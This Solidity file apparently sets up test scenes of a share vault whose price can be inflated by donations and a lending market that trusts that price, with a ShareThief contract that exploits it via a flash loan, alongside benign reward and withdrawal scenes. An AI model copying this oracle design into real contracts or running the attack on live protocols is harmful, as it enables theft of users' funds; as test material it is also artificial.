// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// Shares in a coin. A gift makes each of them dearer.
contract Shares is Coin {
    Coin public immutable coin;

    constructor(Coin coin_) Coin("SHR") {
        coin = coin_;
    }

    function assets() public view virtual returns (uint256) {
        return coin.balanceOf(address(this));
    }

    function price() public view returns (uint256) {
        return totalSupply == 0 ? 1e18 : assets() * 1e18 / totalSupply;
    }

    function deposit(uint256 amount) external returns (uint256 shares) {
        shares = totalSupply == 0 ? amount : amount * totalSupply / assets();
        coin.transferFrom(msg.sender, address(this), amount);
        _add(msg.sender, shares);
    }

    function redeem(uint256 shares) external returns (uint256 amount) {
        amount = shares * assets() / totalSupply;
        _take(msg.sender, shares);
        coin.transfer(msg.sender, amount);
    }
}

/// Lends cash on shares, at what a share is worth by the vault's own word.
contract ShareMarket {
    Coin public immutable cash;
    Shares public immutable shares;
    mapping(address => uint256) public deposits;
    mapping(address => uint256) public debts;

    constructor(Coin cash_, Shares shares_) {
        (cash, shares) = (cash_, shares_);
    }

    function put(uint256 amount) external {
        shares.transferFrom(msg.sender, address(this), amount);
        deposits[msg.sender] += amount;
    }

    function borrow(uint256 amount) external {
        debts[msg.sender] += amount;
        require(debts[msg.sender] <= deposits[msg.sender] * shares.price() / 1e18, "too much");
        cash.transfer(msg.sender, amount);
    }
}

/// Two accounts of one thief: one leaves dear shares as collateral, the other takes the gift back out.
contract ShareThief is Flash {
    ShareMarket immutable market;
    Lender immutable lender;
    uint256 immutable loan;

    constructor(ShareMarket market_, Lender lender_, uint256 loan_) {
        (market, lender, loan) = (market_, lender_, loan_);
    }

    function run() external payable {
        Coin coin = market.shares().coin();
        if (loan > 0) lender.flashLoan(this, coin, loan, "");
        else borrowed(coin.balanceOf(address(this)));
        Coin cash = market.cash();
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
        cash.transfer(tx.origin, cash.balanceOf(address(this)));
    }

    function borrowed(uint256 amount) internal override {
        Shares shares = market.shares();
        Coin coin = shares.coin();
        uint256 stake = amount / 4;
        coin.approve(address(shares), stake);
        uint256 mine = shares.deposit(stake);
        coin.transfer(address(shares), amount - stake);
        uint256 part = mine / 100;
        shares.approve(address(market), part);
        market.put(part);
        uint256 most = part * shares.price() / 1e18;
        market.borrow(most);
        shares.redeem(mine - part);
    }
}

abstract contract ShareScene is Scene {
    function set(uint256 loan) internal {
        Coin coin = new Coin("USD");
        Coin cash = new Coin("CSH");
        Shares shares = new Shares(coin);
        ShareMarket market = new ShareMarket(cash, shares);
        cash.mint(address(market), 100_000 ether);
        Lender lender = new Lender();
        ShareThief thief = new ShareThief(market, lender, loan);
        coin.mint(loan > 0 ? address(lender) : address(thief), 50_000 ether);
        // So that the loan can be paid back, whatever is left in the vault.
        if (loan > 0) coin.mint(address(thief), 2_000 ether);
        actor = address(thief);
    }
}

contract GiftOnLoan is ShareScene {
    constructor() payable {
        set(40_000 ether);
    }
}

contract GiftOfOwn is ShareScene {
    constructor() payable {
        set(0);
    }
}

/// Brings a reward to those who hold shares, and goes.
contract Giver {
    Shares immutable shares;

    constructor(Shares shares_) {
        shares = shares_;
    }

    function run() external payable {
        shares.coin().transfer(address(shares), 50 ether);
    }
}

contract Reward is Scene {
    constructor() payable {
        Coin coin = new Coin("USD");
        Shares shares = new Shares(coin);
        coin.mint(address(this), 100 ether);
        coin.approve(address(shares), 100 ether);
        shares.deposit(100 ether);
        Giver giver = new Giver(shares);
        coin.mint(address(giver), 50 ether);
        actor = address(giver);
    }
}

/// Puts in, and takes out what it put in earlier, with what it has earned.
contract Saver {
    Shares immutable shares;

    constructor(Shares shares_) {
        shares = shares_;
    }

    function start() external {
        shares.coin().approve(address(shares), type(uint256).max);
        shares.deposit(10 ether);
    }

    function run() external payable {
        shares.deposit(5 ether);
        shares.redeem(shares.balanceOf(address(this)) / 2);
    }
}

contract Savings is Scene {
    constructor() payable {
        Coin coin = new Coin("USD");
        Shares shares = new Shares(coin);
        Saver saver = new Saver(shares);
        coin.mint(address(saver), 15 ether);
        saver.start();
        // It has earned something since.
        coin.mint(address(shares), 1 ether);
        actor = address(saver);
    }
}

/// All of its savings out at once, after a reward.
contract Leaver {
    Shares immutable shares;

    constructor(Shares shares_) {
        shares = shares_;
    }

    function start() external {
        shares.coin().approve(address(shares), type(uint256).max);
        shares.deposit(10 ether);
    }

    function run() external payable {
        uint256 got = shares.redeem(shares.balanceOf(address(this)));
        shares.coin().transfer(tx.origin, got);
    }
}

contract Withdrawal is Scene {
    constructor() payable {
        Coin coin = new Coin("USD");
        Shares shares = new Shares(coin);
        Leaver leaver = new Leaver(shares);
        coin.mint(address(leaver), 10 ether);
        leaver.start();
        coin.mint(address(this), 10 ether);
        coin.approve(address(shares), 10 ether);
        shares.deposit(10 ether);
        coin.mint(address(shares), 2 ether);
        actor = address(leaver);
    }
}
